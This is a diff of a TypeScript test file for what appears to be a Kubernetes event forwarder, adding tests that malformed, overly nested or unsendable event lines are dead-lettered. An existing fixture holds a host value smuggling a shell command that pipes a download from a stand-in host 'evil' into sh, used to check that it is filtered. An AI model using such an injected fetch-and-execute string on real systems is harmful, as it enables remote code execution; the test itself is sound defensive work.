@@ -307,6 +307,7 @@ describe('Feature: malformed events are dead-lettered with the reason; the rest 
     hostile.source.host = `ip-10-0-1-149.ec2.internal;curl$\{IFS}evil|sh`;
     const wrongShape = {
       kind: 'Event',
+      involvedObject: { kind: 'Pod', namespace: 'default', name: 'p' },
       reason: 'Failed',
       type: 'Warning',
       message: 'no metadata at all',
@@ -344,6 +345,51 @@ describe('Feature: malformed events are dead-lettered with the reason; the rest 
     expect(
       JSON.stringify(ofType(result, DETAIL_TYPES.nodePruneRequested))
     ).not.toContain('curl');
+  });
+});
+
+describe('Feature: a line the runtime cannot feed is a dead letter of its own; the run goes on', () => {
+  it('dead-letters a line without involvedObject, one nested 3,000 deep and one SQS cannot carry, heals the node, and prints them all', async () => {
+    // Prepare
+    const seed = await readFile(SEED, 'utf8');
+    const noObject = JSON.parse(seed.split('\n')[0] as string);
+    delete noObject.involvedObject;
+    const deep = `${'{"a":'.repeat(2999)}{}${'}'.repeat(2999)}`;
+    // A NUL and a lone surrogate: characters an SQS message may not hold.
+    const unsendable = '{"message":"\u0000\ud800"';
+    const input = [JSON.stringify(noObject), deep, unsendable, seed].join('\n');
+
+    // Act
+    const result = await runLocal({
+      items: parseEvents(input),
+      node: 'simulated',
+    });
+
+    // Assess
+    const reasons = result.deadLetters.map((d) => `${d.queue}: ${d.reason}`);
+    expect(reasons).toEqual([
+      expect.stringMatching(
+        /^forwarder: line 1: not a Kubernetes Event: .*involvedObject/
+      ),
+      'forwarder: line 2: line is nested deeper than 64 levels',
+      expect.stringMatching(/^forwarder: line 3: line is not JSON/),
+    ]);
+    // One incident resolved (a record SQS redelivers on a busy machine
+    // emits its stored decision again: the same incident, twice).
+    const resolved = ofType(result, DETAIL_TYPES.incidentResolved);
+    expect(new Set(resolved.map((e) => e.detail.incidentId)).size).toBe(1);
+    const text = renderTimeline(result, 'input');
+    expect(text).toContain(
+      'forwarder: line 1: not a Kubernetes Event: involvedObject is missing or not an object'
+    );
+    const dead = renderJson(result)
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .filter((l) => 'deadLetter' in l);
+    expect(dead.map((l) => l.deadLetter.reason)).toEqual(
+      result.deadLetters.map((d) => d.reason)
+    );
+    expect(dead[1]?.deadLetter.body).toBe(deep);
   });
 });
 
